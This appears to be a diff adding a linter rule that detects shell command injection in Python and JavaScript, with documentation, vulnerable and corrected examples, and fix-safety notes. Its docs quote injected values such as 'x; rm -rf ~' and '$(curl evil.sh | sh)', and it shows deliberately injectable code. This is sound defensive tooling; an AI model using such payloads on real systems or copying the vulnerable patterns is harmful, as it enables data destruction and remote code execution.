@@ -1,0 +1,82 @@
+import { defineRule } from '../../engine/types';
+import { python } from './python';
+import { js } from './js';
+
+export default defineRule({
+  id: 'command-injection',
+  family: 'secrets-auth-config',
+  severity: 'error',
+  languages: ['python', 'javascript', 'typescript'],
+  fix: { availability: 'sometimes', maxApplicability: 'unsafe', title: 'Run the command as an argument list, without a shell' },
+  python,
+  js,
+  docs: `## What it does
+Flags shell commands built at run time from a value that is not a constant, or taken from the request, and run through a shell.
+
+Python: \`os.system\`, \`os.popen\`, \`subprocess.getoutput\`, and \`subprocess.run/call/check_call/check_output/Popen\`
+with \`shell=True\`. JavaScript and TypeScript: \`child_process.exec\` / \`execSync\`, and \`spawn\` /
+\`execFile\` with \`shell: true\` (tracked through imports, \`require\` and destructuring).
+
+The command is followed inside the function, through assignments, f-strings, \`+\`, \`%\`,
+\`.format\` and template literals. Literals, module constants, values passed through
+\`shlex.quote\` or \`int()\` / \`Number()\`, and allow-listed choices (\`if fmt not in FORMATS: return\`)
+are not flagged. A whole command handed in as a parameter of a plain function is the caller's
+business and is not flagged; one from the request (a view's parameters, \`request.GET\`,
+\`req.query\`) is.
+
+## Why is this bad?
+The shell reads the whole string: \`x; rm -rf ~\`, \`$(curl evil.sh | sh)\` or a backquote inside
+the value runs another command with the server's rights. An argument list without a shell hands
+the value to the program as one argument, whatever it contains.
+
+## Example
+\`\`\`python
+import subprocess
+
+def connect(name):
+    subprocess.run(f"openvpn --config {name}", shell=True, check=True)
+\`\`\`
+
+\`\`\`js
+const { exec } = require('child_process');
+
+function thumbnail(file, cb) {
+  exec(\`convert \${file} -resize 200x200 thumb.png\`, cb);
+}
+\`\`\`
+
+## Use instead
+\`\`\`python
+import subprocess
+
+def connect(name):
+    subprocess.run(["openvpn", "--config", name], check=True)
+\`\`\`
+
+\`\`\`js
+const { exec, execFile } = require('child_process');
+
+function thumbnail(file, cb) {
+  execFile('convert', [file, '-resize', '200x200', 'thumb.png'], cb);
+}
+\`\`\`
+
+## Fix safety
+Unsafe: without a shell, shell features in the command stop working (variables, globs, pipes),
+and a value with spaces stays one argument. The fix is only offered when the command splits on
+literal spaces into words, each interpolated value a whole word, and the literal text holds no
+shell syntax (quotes, \`|\`, \`;\`, \`>\`, \`$\`, globs); otherwise there is no automatic fix.
+\`os.system(cmd)\` becomes \`subprocess.call([...])\` (same exit code on success; a signal is
+reported differently) with \`import subprocess\`; \`exec\` becomes \`execFile\` (same callback
+arguments), \`execSync\` \`execFileSync\`, the import extended.
+
+## How to verify
+Call the code with \`x; touch /tmp/pwned\` as the value: before the fix the file appears, after it
+the program receives the value as one argument and no file appears.
+
+## References
+- OWASP: OS Command Injection Defense Cheat Sheet
+- Bandit B602 subprocess_popen_with_shell_equals_true, B605 start_process_with_a_shell
+- Node.js: child_process.execFile
+`,
+});
